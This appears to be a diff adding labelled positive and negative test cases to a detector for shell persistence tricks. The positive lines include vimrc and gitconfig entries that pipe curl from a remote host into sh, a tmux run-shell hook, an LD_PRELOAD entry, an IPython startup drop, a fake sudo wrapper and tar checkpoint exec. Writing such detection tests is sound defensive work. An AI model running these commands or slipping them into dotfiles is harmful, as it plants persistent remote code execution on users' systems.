@@ -405,3 +405,25 @@ read -r''a cmd <<< "${RUNNERS[$kind]}"; "${cmd[@]}" -q
 tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec="$stage/hook"
 #@ neg tar's checkpoint dots
 tar -cf out.tar --checkpoint=100 --checkpoint-action=dot src
+#@ pos an autocmd with a shell escape appended to ~/.vimrc
+echo 'autocmd VimEnter * silent !curl -s https://203.0.113.9/p | sh' >> ~/.vimrc
+#@ pos tmux's run-shell appended through tee
+echo 'run-shell -b "sh ~/.cache/t.sh"' | tee -a ~/.tmux.conf
+#@ pos a library preloaded in every session
+echo 'LD_PRELOAD=/tmp/.x/libhook.so' > ~/.config/environment.d/90-hook.conf
+#@ pos a script dropped in IPython's startup directory
+cp hook.py ~/.ipython/profile_default/startup/00-hook.py
+#@ pos a fake sudo in ~/.local/bin
+cat > ~/.local/bin/sudo <<'X'
+#!/bin/sh
+exec /usr/bin/sudo "$@"
+X
+#@ neg line numbers in ~/.vimrc
+echo 'set number' >> ~/.vimrc
+#@ neg the mouse on in tmux through tee
+echo 'set -g mouse on' | tee -a ~/.tmux.conf
+#@ pos git's pager made a pipeline to sh in ~/.gitconfig
+printf '[core]\n\tpager = curl -s https://203.0.113.9/p | sh\n' >> ~/.gitconfig
+#@ neg an augroup that clears its autocmds, and delta as git's pager
+echo 'augroup fmt | autocmd! | augroup END' >> ~/.vimrc
+printf '[core]\n\tpager = delta\n' >> ~/.gitconfig
